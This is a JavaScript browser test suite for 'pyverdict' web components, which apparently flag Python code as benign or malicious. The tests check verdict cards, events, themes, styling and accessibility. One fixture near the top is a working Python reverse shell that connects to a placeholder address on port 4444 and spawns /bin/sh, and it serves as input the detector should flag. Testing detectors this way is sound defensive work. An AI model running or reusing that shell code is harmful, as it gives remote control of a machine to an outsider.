// The custom elements in pages of others: plain HTML files that import the package as it is.
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import axe from 'axe-core';
import { host } from './hosts.mjs';
import { example, start, styleOf } from './support.mjs';

const { inPage, stop } = await start();
const npm = fileURLToPath(new URL('../../dist/npm', import.meta.url));
const policy =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; connect-src 'self'; style-src 'self'; base-uri 'none'; object-src 'none'";
const portal = await host(
  {},
  { folders: { '/vendor/pyverdict/': npm }, headers: { 'Content-Security-Policy': policy } },
);
after(async () => {
  await stop();
  await portal.close();
});

const shell = `import socket, os, pty
s = socket.socket()
s.connect(("192.0.2.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
`;

/**
 * A page of the portal with this body, which imports the elements and runs a script of its own.
 * @param {string} body
 * @param {string} [script]
 * @param {Parameters<typeof inPage>[0]} [options]
 * @param {string} [css]
 * @returns {(test: (page: import('playwright-core').Page) => Promise<void>) => Promise<void>}
 */
const onPortal =
  (body, script = '', options = {}, css = '') =>
  (test) =>
    inPage({ goto: false, origins: [portal.address], ...options }, async (page) => {
      portal.put(
        '/',
        `<!doctype html><html lang="en"><title>Portal</title><link rel="stylesheet" href="/page.css"><script type="module" src="/page.js"></script><main>${body}</main></html>`,
      );
      portal.put('/page.css', css);
      portal.put(
        '/page.js',
        `import '/vendor/pyverdict/element.js';
         window.events = [];
         for (const type of ['pyverdict-report', 'pyverdict-error', 'pyverdict-place'])
           document.addEventListener(type, (event) => window.events.push({ type, from: event.target.id, detail: event.detail }));
         ${script}`,
      );
      await page.goto(portal.address);
      await test(page);
    });

/** @param {import('playwright-core').Page} page @returns {Promise<any[]>} */
const events = (page) => page.evaluate(() => /** @type {any} */ (window).events);

test('the analyzer analyses what is set as its input, and says what came of it', () =>
  onPortal(
    '<pyverdict-analyzer id="a"></pyverdict-analyzer>',
    `a.input = ${JSON.stringify(shell)};`,
  )(async (page) => {
    await page.locator('pv-verdict-card h1:text-is("Malicious")').waitFor();
    const [event] = await events(page);
    assert.equal(event.type, 'pyverdict-report');
    assert.equal(event.from, 'a');
    assert.equal(event.detail.reports[0].verdict.label, 'malicious');
    assert.equal(event.detail.reports[0].layers[0].text, shell);
    await page.locator('.cm-line').first().waitFor();
    assert.equal(await page.evaluate(() => /** @type {any} */ (window).a.reports.length), 1);
  }));

test('the place to paste into works inside the element, and its pastes do not reach the page', () =>
  onPortal('<pyverdict-analyzer id="a"></pyverdict-analyzer>')(async (page) => {
    await page.locator('textarea').fill('print(1)\n');
    await page.locator('#analyze').click();
    await page.locator('pv-verdict-card h1:text-is("Benign")').waitFor();
    await page.evaluate(() => {
      /** @type {any} */ (window).a.input = null;
    });
    await page.locator('textarea').waitFor();
  }));

test('with no-input there is nothing to paste into', () =>
  onPortal('<pyverdict-analyzer id="a" no-input></pyverdict-analyzer>')(async (page) => {
    await page.locator('pv-workspace').waitFor({ state: 'attached' });
    assert.equal(await page.locator('textarea').isVisible(), false);
    await page.evaluate(() => {
      /** @type {any} */ (window).a.input = new TextEncoder().encode('print(1)\n');
    });
    await page.locator('pv-verdict-card h1:text-is("Benign")').waitFor();
  }));

test('files and several inputs are listed', () =>
  onPortal(
    '<pyverdict-analyzer id="a"></pyverdict-analyzer>',
    `a.input = [new File([${JSON.stringify(shell)}], 'shell.py'), new File(['print(1)'], 'one.py')];`,
  )(async (page) => {
    await page.locator('[role=option]').nth(1).waitFor();
    assert.deepEqual(await page.locator('[role=option] .name').allInnerTexts(), ['shell.py', 'one.py']);
  }));

test('several elements share one worker, each with its own language and theme', () =>
  onPortal(
    `<pyverdict-verdict id="a" lang="en" theme="light"></pyverdict-verdict>
     <pyverdict-verdict id="b" lang="pt-PT" theme="dark"></pyverdict-verdict>
     <pyverdict-code id="c"></pyverdict-code>`,
    `for (const element of [a, b, c]) element.input = ${JSON.stringify(shell)};`,
  )(async (page) => {
    await page.locator('#a h1:text-is("Malicious")').waitFor();
    await page.locator('#b h1:text-is("Malicioso")').waitFor();
    await page.locator('#c .cm-line').first().waitFor();
    assert.equal(page.workers().length, 1);
    assert.match(await page.locator('#a .for').innerText(), /For a benign reading/);
    assert.equal(await page.locator('#b [lang]').first().getAttribute('lang'), 'pt-PT');
    const background = (/** @type {string} */ id) =>
      page
        .locator(`${id} .card`)
        .first()
        .evaluate((card) => getComputedStyle(card).backgroundColor);
    assert.notEqual(await background('#a'), await background('#b'));
    await page.evaluate(() => Object.assign(/** @type {any} */ (window).a, { lang: 'pt' }) && undefined);
    await page.locator('#a h1:text-is("Malicioso")').waitFor();
  }));

test('a reason of one element leads to the line in another', () =>
  onPortal(
    '<pyverdict-verdict id="a" model="off"></pyverdict-verdict><pyverdict-code id="c"></pyverdict-code>',
    `a.addEventListener('pyverdict-report', (event) => (c.reports = event.detail.reports));
     a.addEventListener('pyverdict-place', ({ detail }) => c.jump(detail.layer, detail.span));
     a.input = ${JSON.stringify(shell)};`,
  )(async (page) => {
    await page.locator('#a .reasons button').first().click();
    await page.locator('#c .pv-target').first().waitFor();
    assert.equal(await page.locator('#c .cm-line:has(.pv-target)').first().innerText(), shell.split('\n')[3]);
  }));

test('the verdict alone says all its reasons, and offers no way to tabs that are not there', () =>
  onPortal(
    '<pyverdict-verdict id="a"></pyverdict-verdict>',
    `a.input = ${JSON.stringify(example('webhook.py'))};`,
  )(async (page) => {
    await page.locator('#a h1').waitFor();
    const [{ detail }] = await events(page);
    const { reasons } = detail.reports[0].verdict;
    assert.ok(reasons.length > 3);
    assert.equal(await page.locator('#a .reasons li').count(), reasons.length);
    assert.equal(await page.locator('#a #plan').count(), 0);
    assert.deepEqual(await page.locator('#a button:not(.reasons button)').allInnerTexts(), [
      'Copy as Markdown',
      'Save as…',
    ]);
  }));

test('the scale has the thresholds of what decided, and a label that is held back says why', () =>
  onPortal(
    '<pyverdict-verdict id="a"></pyverdict-verdict>',
    `a.input = ${JSON.stringify(shell)};`,
  )(async (page) => {
    const model = JSON.parse(readFileSync(new URL('../../models/model.json', import.meta.url), 'utf8'));
    const label = page.locator('#a pv-score-scale [role=img]');
    await page.locator('#a h1').waitFor();
    await page.evaluate(() => Object.assign(window, { held: /** @type {any} */ (window).a.reports[0] }));
    /** @param {object} verdict @param {string | null} id */
    const show = (verdict, id) =>
      page.evaluate(([own, name]) => {
        const { a, held } = /** @type {any} */ (window);
        const engine = { ...held.engine, model: name };
        a.reports = [{ ...held, engine, verdict: { ...held.verdict, ...own } }];
      }, /** @type {const} */ ([verdict, id]));
    const held = page.locator('#a .score:has-text("By the score alone it would be malicious")');
    await show({ label: 'suspicious', score: 0.97, basis: 'model' }, model.id);
    await held.waitFor();
    const shown = new Intl.NumberFormat('en');
    const { suspicious, malicious } = model.thresholds;
    assert.match(
      String(await label.getAttribute('aria-label')),
      new RegExp(`Suspicious from ${shown.format(suspicious)}, malicious from ${shown.format(malicious)}`),
    );
    await show({ label: 'suspicious', score: 0.1, basis: 'evidence' }, null);
    await page.locator('#a .score b:text-is("Score 0.100")').waitFor();
    assert.match(
      String(await label.getAttribute('aria-label')),
      /Suspicious from 0\.03, malicious from 0\.3\./,
    );
    assert.equal(await held.count(), 0);
    await show({ label: 'suspicious', score: 0.97, basis: 'model' }, 'a model of their own');
    await page.locator('#a .score b:text-is("Score 0.970")').waitFor();
    assert.equal(await label.getAttribute('aria-label'), 'Score 0.970');
  }));

test('the page around it sets colours and styles parts, and its own styles stay outside', () =>
  onPortal(
    '<p>Text of the portal</p><pyverdict-analyzer id="a" theme="light"></pyverdict-analyzer>',
    `a.input = ${JSON.stringify(shell)};`,
    {},
    `pyverdict-analyzer { --pv-accent: rgb(1, 2, 3); --pv-radius: 0px; }
     pyverdict-analyzer::part(verdict) { border-color: rgb(4, 5, 6); }
     button, h1, section { all: unset; color: red; }`,
  )(async (page) => {
    await page.locator('pv-verdict-card h1').waitFor();
    assert.equal(await styleOf(page, 'pv-verdict-card .button.primary', 'background-color'), 'rgb(1, 2, 3)');
    assert.equal(await styleOf(page, 'pv-verdict-card .card', 'border-top-color'), 'rgb(4, 5, 6)');
    assert.equal(await styleOf(page, 'pv-verdict-card .card', 'border-top-left-radius'), '0px');
    assert.notEqual(await styleOf(page, 'pv-verdict-card h1', 'color'), 'rgb(255, 0, 0)');
    assert.notEqual(await styleOf(page, 'p', 'font-size'), '15px');
  }));

test('what goes wrong is told with a code', () =>
  onPortal('<pyverdict-analyzer id="a" asset-base="/nowhere/"></pyverdict-analyzer>', '', {
    init: `addEventListener('error', (event) => event.preventDefault())`,
  })(async (page) => {
    await page.waitForFunction(() => /** @type {any} */ (window).events.length > 0);
    const [event] = await events(page);
    assert.deepEqual(
      { type: event.type, from: event.from, code: event.detail.code },
      { type: 'pyverdict-error', from: 'a', code: 'wasmNotFound' },
    );
    await page.locator('pv-notice').first().waitFor();
  }).catch((/** @type {Error} */ error) => {
    // The browser logs the answer 404 by itself; nothing else may have been logged.
    const lines = error.message.match(/error: .*/g) ?? [];
    if (lines.length === 0 || lines.some((line) => !/404/.test(line))) throw error;
  }));

for (const theme of ['light', 'dark']) {
  test(`axe finds nothing in an element of 480 × 360, ${theme}`, () =>
    onPortal(
      `<h1>Portal</h1><div class="frame"><pyverdict-analyzer id="a" theme="${theme}"></pyverdict-analyzer></div>`,
      '',
      { init: axe.source, viewport: { width: 480, height: 360 } },
      `body { margin: 0 } .frame { width: 480px; height: 360px; overflow: auto }`,
    )(async (page) => {
      const check = async (/** @type {string} */ where) => {
        const found = await page.evaluate(async () => {
          const { violations } = await /** @type {any} */ (globalThis).axe.run('pyverdict-analyzer');
          return violations.map((/** @type {any} */ { id, nodes }) => [id, nodes[0].target.flat().join(' ')]);
        });
        // A heading of the first level is the portal's business.
        assert.deepEqual(found, [], where);
        const overflow = await page.evaluate(() => {
          const frame = /** @type {HTMLElement} */ (document.querySelector('.frame'));
          return frame.scrollWidth - frame.clientWidth;
        });
        assert.ok(overflow <= 0, `${where} scrolls sideways`);
      };
      await page.locator('textarea').waitFor();
      await check('empty');
      for (const name of ['reverse-shell.json', 'several.json', 'admin.py']) {
        await page.evaluate(
          (text) => Object.assign(/** @type {any} */ (window).a, { input: text }) && undefined,
          example(name),
        );
        await page.locator('pv-verdict-card').waitFor();
        await check(name);
        await page.locator('#tab-code').click();
        await page.locator('.cm-line').first().waitFor();
        await check(`${name}, code`);
        await page.evaluate(() => Object.assign(/** @type {any} */ (window).a, { input: null }) && undefined);
        await page.locator('textarea').waitFor();
      }
    }));
}
